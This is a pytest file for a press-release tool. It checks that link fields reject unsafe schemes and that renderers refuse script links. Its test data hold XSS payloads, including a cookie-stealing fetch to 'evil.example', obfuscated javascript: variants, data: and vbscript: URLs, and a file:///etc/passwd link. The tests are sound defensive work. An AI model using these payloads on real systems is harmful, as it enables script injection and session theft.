"""Links: every address a file can set is https, http, mailto or tel, or it is refused.

The issue's attack: ``javascript:alert(...)`` in a signatories CSV and
``javascript://%0A...`` in an event's ``rsvp`` passed ``check`` and were
published as live links on the newsroom, in the email, the PDF and the Word file.
"""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from pressroom.errors import LoadError, RenderError
from pressroom.load.room import load_release, load_room
from pressroom.model.links import BadLink, SafeUrl, WebUrl, link_allowed, rsvp_link
from pressroom.render.context import Signatory, SignatoryGroup, document
from pressroom.render.email import render_email
from pressroom.render.environment import make_environment
from pressroom.render.linkcheck import unsafe_links
from tests.cli_runner import run
from tests.conftest import MINIMAL_ROOM, MakeRoom

LETTER = """\
type: open-letter
date: 2026-11-23
headline: Forty Groups Ask the Council to Keep the Parks Open
body: >-
  We ask the council to keep every park of the city open until ten at night, so
  that people who work late can walk, run and meet their neighbours in safety.
signatories: signatories.csv
"""
SIGNATORIES = """\
name,org,url
Ana Ortiz,Neighbours United,https://neighbours.example/
Bo Chen,Parks Forever,javascript:alert(document.cookie)
Cy Diaz,Safe Streets,"JaVaScRiPt:fetch('//evil.example/'+document.cookie)"
Di Eze,Open Parks,data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
"""
ADVISORY = """\
type: media-advisory
date: 2026-11-23
headline: Residents Deliver the Parks Petition to City Hall
body: Residents deliver eleven thousand signatures to the city council on Monday.
event:
  what: Delivery of the petition
  when: 2026-12-01 10:00 America/Los_Angeles
  rsvp: {rsvp}
"""


def _load_problems(root: Path, name: str) -> list:
    with pytest.raises(LoadError) as caught:
        load_release(load_room(root), root / "releases" / name)
    return caught.value.problems


def test_a_script_link_in_a_signatories_csv_is_a_bad_link_at_its_row(
    make_room: MakeRoom, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_room({"releases/letter.yaml": LETTER, "releases/signatories.csv": SIGNATORIES})
    problems = _load_problems(root, "letter.yaml")
    assert [(p.file, p.line, p.key, p.code) for p in problems] == [
        ("releases/signatories.csv", 3, "url", "bad-link"),
        ("releases/signatories.csv", 4, "url", "bad-link"),
        ("releases/signatories.csv", 5, "url", "bad-link"),
    ]
    assert "is a javascript: link" in problems[0].message
    result = run(capsys, root, "check")
    assert result.code == 1
    assert "releases/signatories.csv:3: error: url: the link 'javascript:" in result.err
    assert "[bad-link]" in result.err
    assert run(capsys, root, "site", "--use-pressroom-now", "--out", "site").code != 0
    assert not (root / "site" / "letter" / "index.html").exists()


@pytest.mark.parametrize(
    "rsvp",
    [
        "javascript://%0Aalert(document.domain)",
        '"javascript:alert(1)"',
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://",
        "mailto:not-an-address",
    ],
)
def test_a_script_link_in_rsvp_is_a_bad_link_at_its_key(make_room: MakeRoom, rsvp: str) -> None:
    root = make_room({"releases/advisory.yaml": ADVISORY.format(rsvp=rsvp)})
    [problem] = _load_problems(root, "advisory.yaml")
    assert (problem.file, problem.line, problem.key, problem.code) == (
        "releases/advisory.yaml",
        8,
        "event.rsvp",
        "bad-link",
    )


@pytest.mark.parametrize(
    ("rsvp", "href"),
    [
        ("dana@example.org", "mailto:dana@example.org"),
        ("https://example.org/rsvp", "https://example.org/rsvp"),
        ("mailto:dana@example.org?subject=RSVP", "mailto:dana@example.org?subject=RSVP"),
        ("Call Dana on +1 202 555 0143", None),
    ],
)
def test_rsvp_text_addresses_and_links_still_work(make_room: MakeRoom, rsvp: str, href) -> None:
    root = make_room({"releases/advisory.yaml": ADVISORY.format(rsvp=f'"{rsvp}"')})
    room = load_room(root)
    release = load_release(room, root / "releases" / "advisory.yaml")
    doc = document(room, release)
    assert doc.event is not None and doc.event.rsvp == rsvp and doc.event.rsvp_href == href


@pytest.mark.parametrize(
    "website",
    [
        "javascript:alert(1)",
        "ftp://example.org",
        "example.org",
        "https://exa mple.org",
        "mailto:a@b.org",
    ],
)
def test_org_website_must_be_a_web_address(make_room: MakeRoom, website: str) -> None:
    room = MINIMAL_ROOM.replace("website: https://example.org", f'website: "{website}"')
    root = make_room(room=room)
    with pytest.raises(LoadError) as caught:
        load_room(root)
    [problem] = caught.value.problems
    assert (problem.line, problem.key, problem.code) == (3, "org.website", "bad-link")


def test_a_signatory_url_in_yaml_is_checked_at_its_key(make_room: MakeRoom) -> None:
    letter = LETTER.replace(
        "signatories: signatories.csv",
        "signatories:\n  Groups:\n    - {name: Parks Forever, url: 'javascript:alert(1)'}",
    )
    root = make_room({"releases/letter.yaml": letter})
    [problem] = _load_problems(root, "letter.yaml")
    assert (problem.line, problem.key, problem.code) == (9, "signatories.Groups[0].url", "bad-link")


def test_markdown_links_with_other_schemes_are_reported_and_stay_text(
    make_room: MakeRoom, capsys: pytest.CaptureFixture[str]
) -> None:
    letter = LETTER.replace("signatories: signatories.csv", "ps: ") + (
        "  Read [the report](javascript:alert(1)), [the data](ftp://files.example/x)"
        " and [the plan](https://example.org/plan).\n"
    )
    letter = letter.replace("ps: \n", "ps: >-\n")
    root = make_room({"releases/letter.yaml": letter})
    result = run(capsys, root, "check")
    found = re.findall(r"error: ps: the link '([^']+)'", result.err)
    assert found == ["javascript:alert(1)", "ftp://files.example/x"], result.err
    room = load_room(root)
    doc = document(room, load_release(room, root / "releases" / "letter.yaml"))
    email = render_email(doc, make_environment())
    hrefs = re.findall(r'href="([^"]*)"', email.html)
    assert "https://example.org/plan" in hrefs
    assert not [h for h in hrefs if h.startswith(("javascript", "ftp"))]
    assert "the report" in email.html and "the data" in email.html


# -- the second wall: where links are written ---------------------------------------


def _letter_doc(make_room: MakeRoom):  # type: ignore[no-untyped-def]
    good = SIGNATORIES.splitlines()[:2]
    root = make_room({"releases/letter.yaml": LETTER, "releases/signatories.csv": "\n".join(good)})
    room = load_room(root)
    return root, document(room, load_release(room, root / "releases" / "letter.yaml"))


def test_renderers_refuse_a_script_link_that_got_past_the_types(make_room: MakeRoom) -> None:
    """A str where a SafeUrl belongs (a bug, a plug-in): the email, the PDF's HTML and the
    newsroom page are not written, and the Word file writes the name without a link."""
    from pressroom.render.docx import render_docx
    from pressroom.render.pdf import print_html

    root, doc = _letter_doc(make_room)
    evil = Signatory("Bo Chen", "Parks Forever", "javascript:alert(1)")  # type: ignore[arg-type]
    doc = replace(doc, signatory_groups=[SignatoryGroup(None, [evil])])
    env = make_environment()
    with pytest.raises(RenderError, match='refused to write <a href="javascript:alert'):
        render_email(doc, env)
    with pytest.raises(RenderError, match="links are http\\(s\\), mailto or tel only"):
        print_html(doc, env)
    word = render_docx(doc)
    with zipfile.ZipFile(io.BytesIO(word)) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode()
        body = archive.read("word/document.xml").decode()
    assert "javascript" not in rels and "Bo Chen" in body


def test_a_room_template_with_a_script_link_is_refused(make_room: MakeRoom) -> None:
    root, doc = _letter_doc(make_room)
    (root / "templates").mkdir()
    (root / "templates" / "email.html.j2").write_text(
        '<html><body><a href=" java\tscript:alert(1)">x</a>{{ doc.headline }}</body></html>'
    )
    with pytest.raises(RenderError, match="refused to write"):
        render_email(doc, make_environment(root / "templates"))


@pytest.mark.parametrize(
    ("href", "allowed"),
    [
        ("https://example.org/a", True),
        ("http://example.org", True),
        ("mailto:dana@example.org", True),
        ("tel:+12025550143", True),
        ("/about", True),
        ("#media-contacts", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("java\nscript:alert(1)", False),
        ("\x01javascript:alert(1)", False),
        ("vbscript:x", False),
        ("data:text/html,x", False),
        ("file:///etc/passwd", False),
        ("ftp://example.org", False),
    ],
)
def test_link_allowed(href: str, allowed: bool) -> None:
    assert link_allowed(href) is allowed


def test_safe_urls_parse_only_what_pressroom_writes() -> None:
    assert SafeUrl.parse(" https://example.org/x ").scheme == "https"
    assert SafeUrl.parse("tel:+1-202-555-0143").scheme == "tel"
    for bad in ("", "javascript:alert(1)", "https://exa\u200bmple.org", "tel:call-me", "www.x.org"):
        with pytest.raises(BadLink):
            SafeUrl.parse(bad)
    with pytest.raises(BadLink):
        WebUrl.parse("mailto:dana@example.org")
    assert rsvp_link("Reply to dana@example.org by Friday") is None
    with pytest.raises(BadLink):
        rsvp_link("javascript://%0Aalert(1)")


def test_unsafe_links_sees_attributes_as_a_browser_does() -> None:
    html = (
        '<a href="&#106;avascript:alert(1)">a</a><img src="data:image/png;base64,AAAA">'
        '<img src="cid:photo-1"><form action="javascript:x"></form>'
        '<img srcset="https://example.org/a.png 1x, javascript:x 2x">'
    )
    assert [(tag, name) for tag, name, _ in unsafe_links(html)] == [
        ("a", "href"),
        ("form", "action"),
        ("img", "srcset"),
    ]


def test_vcard_and_calendar_write_only_web_addresses() -> None:
    """The second wall in the vCard and .ics writers, for a value that got past the types."""
    from pressroom.render.context import Contact, Org
    from pressroom.render.vcard import render_vcard

    org = Org("Example Justice Network", website="javascript:alert(1)")  # type: ignore[arg-type]
    card = render_vcard(Contact("Dana Reyes", org="Example Justice Network"), org).decode()
    assert "javascript" not in card and "URL:" not in card
    good = Org("Example Justice Network", website=WebUrl.parse("https://example.org"))
    card = render_vcard(Contact("Dana Reyes", org="Example Justice Network"), good).decode()
    assert "URL:https://example.org" in card
